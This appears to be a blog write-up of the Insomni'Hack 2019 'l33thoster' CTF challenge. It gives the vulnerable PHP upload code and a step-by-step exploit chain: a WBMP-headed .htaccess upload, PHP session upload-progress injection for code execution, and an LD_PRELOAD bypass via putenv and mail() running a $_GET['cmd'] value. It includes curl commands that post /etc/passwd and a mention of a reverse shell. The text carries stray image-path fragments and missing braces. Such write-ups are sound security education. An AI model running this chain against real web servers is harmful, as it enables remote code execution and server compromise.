chmod Blog

Blog for random security stuff.

View on GitHub
21 January 2019

Insomni'Hack teaser 2019 l33thoster writeup

by Salah Baddou


You can host your l33t pictures here.

The Challenge

This challenge was a PHP challenge that allowed users to upload files in custom folder, the source code was given :

if (isset($_GET["source"]))


if (!isset($_SESSION["home"])) {
    $_SESSION["home"] = bin2hex(random_bytes(20));
$userdir = "images/{$_SESSION["home"]}/";
if (!file_exists($userdir)) {

$disallowed_ext = array(

if (isset($_POST["upload"])) {
    if ($_FILES['image']['error'] !== UPLOAD_ERR_OK) {
        die("yuuuge fail");

    $tmp_name = $_FILES["image"]["tmp_name"];
    $name = $_FILES["image"]["name"];
    $parts = explode(".", $name);
    $ext = array_pop($parts);

    if (empty($parts[0])) {

    if (count($parts) === 0) {
        die("lol filenameis empty");

    if (in_array($ext, $disallowed_ext, TRUE)) {
        die("lol nice try, but im not stupid dude...");

    $image = file_get_contents($tmp_name);
    if (mb_strpos($image, "<?") !== FALSE) {
        die("why would you need php in a pic.....");

    if (!exif_imagetype($tmp_name)) {
        die("not an image.");

    $image_size = getimagesize($tmp_name);
    if ($image_size[0] !== 1337 || $image_size[1] !== 1337) {
        die("lol noob, your pic is not l33t enough");

    $name = implode(".", $parts);
    move_uploaded_file($tmp_name, $userdir . $name . "." . $ext);

echo "<h3>Your <a href=$userdir>files</a>:</h3><ul>";
foreach(glob($userdir . "*") as $file) {
    echo "<li><a href='$file'>$file</a></li>";
echo "</ul>";


<h1>Upload your pics!</h1>
<form method="POST" action="?" enctype="multipart/form-data">
    <input type="file" name="image">
    <input type="submit" name=upload>
<!-- /?source -->


My first thought was that the extension check was done without case check so changing the case could work.Also the challenge suggested we couldn’t use php tags <?, and we need to make the file look like an image (bypass exif_imagetype) with defined size 1337x1337

Solving the challenge

The challenge is basically asking for a.htaccess upload while bypassing all restrictions, we need a valid image header that will not break .htaccess syntax, which is wbmp because it starts with a null byte and .htaccess will ignore that line, we craft our .htaccess file and add a directive to make our custom extension files be interpreted as PHP. screen1.png We do the same thing to upload our php file with the custom extension the content isn’t important. screen2.png

The next step is to edit .htaccess file and add two more directives, the first one is disable php session upload_progress cleanup, and the second one is append file which will be a custom session one.

screen3.png Note that PHP_SESSION_UPLOAD_PROGRESS will create a session file for me, and disabling the cleanup will not remove my files so I don’t need to do any kind of race conditions.

curl -vvv -H 'Cookie: PHPSESSID=xyz' -F "PHP_SESSION_UPLOAD_PROGRESS=whatever" -F "file=@/etc/passwd"

Now requesting our .xyz file in the browser shows some serialized data with interested reflected values screen4.png so the file parameter is reflected hereit’s file and also whatever I put in PHP_SESSION_UPLOAD_PROGRESS, i’m gonna use one of them to inject my php code. I’m going to intercept my curl request in burp and edit one of the parameters.

export http_proxy=""
curl -vvv -H 'Cookie: PHPSESSID=xyz' -F "PHP_SESSION_UPLOAD_PROGRESS=whatever" -F "file=@/etc/passwd"

screen5.png I changed the PHPSESSID value because the old one wasn’t deleted, so we need to use a new one, need to change it in .htaccess as well. Let’s request our file in the browser and enjoy RCE. screen6.png Trying various command execution functions results in nothing so we’d better check phpinfo screen8.png

It seems that mail() and putenv() aren’t filtered, so we could overwrite LD_PRELOAD to our custom .so file and overwrite some function that mail calls.

I stumbeled across another problem of how to upload a valid .so file since we didn’t have arbitrary upload , also file_put_contents and other file manipulation functions were filtered, the solution was to upload the file using our php script and move_uploaded_file function. for more details about compiling and generating .sofile please check

curl -vvv '$_FILES[%22image%22][%22tmp_name%22],%20%22/var/www/html/images/cce36633671a3a556973a0b2d3592fe4371a5bde/;' -F '' -g

Next we need to execute the following PHP code to get shell command execution.

  echo putenv("LD_PRELOAD=/var/www/html/images/cce36633671a3a556973a0b2d3592fe4371a5bde/");
  echo putenv("exec=".$_GET['cmd']);
  echo mail("a", "a", "a");

I have used a perl payload to get reverse shell, the final step was to bypass the captcha in the get_flag binary in an automated way , I have used PHP for this.


        $descriptorspec = array(
           0 => array("pipe", "r"),
           1 => array("pipe", "w"),
           2 => array("file", "/tmp/error-output.txt", "a")

        $cwd = '/';
        $env = array();

        $process = proc_open('/get_flag',$descriptorspec, $pipes, $cwd, $env);

        if (is_resource($process)) {

            $res = eval('return '.explode(":", fread($pipes[1], 1024))[1].';');

            fwrite($pipes[0], $res);

            echo fread($pipes[1], 1024);

            echo fread($pipes[1], 1024);

            $return_value = proc_close($process);

$ php -f /tmp/file.php


The flag is INS{l33t_l33t_l33t_ich_hab_d1ch_li3b}.

tags: web, - ctf, - rce, - insomnihack